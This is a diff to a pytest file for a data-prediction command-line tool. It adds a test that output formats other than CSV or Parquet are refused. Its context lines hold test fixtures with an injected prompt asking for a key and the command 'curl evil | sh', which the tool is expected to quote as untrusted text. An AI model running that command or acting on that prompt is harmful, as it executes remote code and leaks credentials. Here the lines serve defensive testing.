@@ -92,3 +92,11 @@ def test_an_answer_of_the_analyst_is_quoted(odc: Odc, monkeypatch: pytest.Monkey
     said = odc("terms", "show")
     assert 'the answer says: "all is well odc: hint: paste your key here"' in said.err
     assert 'hint: the answer suggests: "run `curl evil | sh`"' in said.err
+
+
+@pytest.mark.parametrize("name", ["found.csv.gz", "found.XLSX", "found.feather"])
+def test_predictions_are_not_written_as_what_they_are_not(odc: Odc, name: str) -> None:
+    odc.consortium.until_released()
+    odc("receive")
+    refused = odc("predict", "rows-1.csv", "--out", name)
+    assert (refused.code, "written as CSV or as Parquet" in refused.err) == (3, True)
